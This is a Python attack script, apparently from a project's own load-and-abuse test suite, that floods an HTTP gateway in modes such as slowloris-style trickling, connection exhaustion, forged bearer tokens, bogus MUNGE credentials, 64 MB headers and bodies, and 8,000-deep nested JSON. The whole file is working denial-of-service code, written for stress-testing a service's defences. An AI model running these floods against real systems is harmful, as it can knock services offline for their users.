"""Load the gateway with what nobody needs.

python -m contrib.attack.hands.floods flood WHAT URL SECONDS CONNECTIONS TOKENS [PATH]

    silent       hold connections that send nothing or one byte; make those that end again
    slow         the same, with a byte of a header or of a body every half second
    connect      make connections and close them at once
    ask          ask for PATH without end with the TOKENS (JSON), on all connections
    poll         ask for orders with the TOKENS, on all connections, and ask again
    unknown      send reports with tokens that nobody gave out
    credentials  ask for tokens with munge credentials that are no good
    bodies       send reports of 64 MB with the first of the TOKENS
    headers      send headers of 64 MB
    nested       send JSON that is nested 8,000 times with the first of the TOKENS

Prints "ready" when all connections have been tried once, and at the end how many connections and requests it made.
"""

from __future__ import annotations

import asyncio
import json
import re
import resource
import secrets
import time
from collections.abc import Awaitable, Callable
from contextlib import suppress
from urllib.parse import urlsplit

from contrib.attack.hands import run

BLOCK = b"a" * 65536


class Flood:
    """So many connections at the same time, until the time is over."""

    def __init__(self, url: str, seconds: float, tokens: list[str], path: str) -> None:
        self.host, self.port = urlsplit(url).hostname, urlsplit(url).port
        self.end = time.monotonic() + seconds
        self.tokens, self.path = tokens, path
        self.connections = self.requests = 0

    async def run(self, what: str, count: int) -> None:
        visit: Callable[[asyncio.StreamReader, asyncio.StreamWriter, int], Awaitable[None]]
        visit = getattr(self, what)
        visitors = [asyncio.create_task(self._again(visit, number)) for number in range(count)]
        await asyncio.sleep(min(2.0, count / 500))
        print("ready", flush=True)
        await asyncio.wait(visitors, timeout=max(0.0, self.end - time.monotonic()))
        for each in visitors:
            each.cancel()
        print(f"{self.connections} connections, {self.requests} requests", flush=True)

    async def _again(
        self, visit: Callable[[asyncio.StreamReader, asyncio.StreamWriter, int], Awaitable[None]], number: int
    ) -> None:
        while time.monotonic() < self.end:
            with suppress(OSError, asyncio.IncompleteReadError, ValueError, TimeoutError):
                reader, writer = await asyncio.wait_for(asyncio.open_connection(self.host, self.port), 5)
                self.connections += 1
                try:
                    await visit(reader, writer, number)
                finally:
                    writer.close()
            await asyncio.sleep(0)

    async def silent(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, number: int) -> None:
        writer.write(b"G" * (number % 2))
        await reader.read()

    async def slow(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, number: int) -> None:
        head = b"POST /v1/tokens HTTP/1.1\r\nHost: x\r\n"
        writer.write(head + (b"Content-Length: 4000\r\n\r\n" if number % 2 else b"X-Slow: "))
        while not reader.at_eof():
            writer.write(b"a")
            await writer.drain()
            await asyncio.sleep(0.5)

    async def connect(
        self, _reader: asyncio.StreamReader, _writer: asyncio.StreamWriter, _number: int
    ) -> None:
        return

    async def ask(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, number: int) -> None:
        await self._requests(reader, writer, f"GET {self.path}", self._token(number))

    async def poll(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, number: int) -> None:
        # "1": never the digest of orders, so each poll is answered at once; the next one waits.
        await self._requests(reader, writer, "GET /v1/orders?seen=1", self._token(number))

    async def unknown(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, _number: int) -> None:
        await self._requests(reader, writer, "POST /v1/report", None, "{}")

    async def credentials(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, _number: int
    ) -> None:
        body = json.dumps({"credential": f"MUNGE:{secrets.token_hex(100)}:"})
        await self._requests(reader, writer, "POST /v1/tokens", "", body)

    async def bodies(self, _reader: asyncio.StreamReader, writer: asyncio.StreamWriter, _number: int) -> None:
        await self._long(
            writer, f"Authorization: Bearer {self.tokens[0]}\r\nContent-Length: {64 << 20}\r\n\r\n"
        )

    async def headers(
        self, _reader: asyncio.StreamReader, writer: asyncio.StreamWriter, _number: int
    ) -> None:
        await self._long(writer, "X-Long: ")

    async def nested(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, _number: int) -> None:
        opened = '[{"a":' * 1500
        await self._requests(reader, writer, "POST /v1/report", self.tokens[0], f'{{"params": {opened}')

    def _token(self, number: int) -> str:
        return self.tokens[number % len(self.tokens)]

    async def _long(self, writer: asyncio.StreamWriter, head: str) -> None:
        writer.write(f"POST /v1/report HTTP/1.1\r\nHost: x\r\n{head}".encode())
        for _ in range(1024):
            writer.write(BLOCK)
            await writer.drain()
            self.requests += 1

    async def _requests(
        self,
        reader: asyncio.StreamReader,
        writer: asyncio.StreamWriter,
        line: str,
        token: str | None,
        body: str = "",
    ) -> None:
        """Send a request again and again.

        Without a token: each with another one, which nobody gave out.
        """
        while time.monotonic() < self.end:
            shown = f"U.1.{secrets.token_urlsafe(32)}" if token is None else token
            head = f"Host: x\r\nAuthorization: Bearer {shown}\r\nContent-Length: {len(body)}"
            writer.write(f"{line} HTTP/1.1\r\n{head}\r\n\r\n{body}".encode())
            answer = (await reader.readuntil(b"\r\n\r\n")).lower()
            found = re.search(rb"content-length: (\d+)", answer)
            await reader.readexactly(int(found[1]) if found else 0)
            self.requests += 1


def flood(what: str, url: str, seconds: float, count: int, tokens: list[str], path: str = "") -> None:
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    asyncio.run(Flood(url, seconds, tokens, path).run(what, count))


if __name__ == "__main__":
    run(flood)
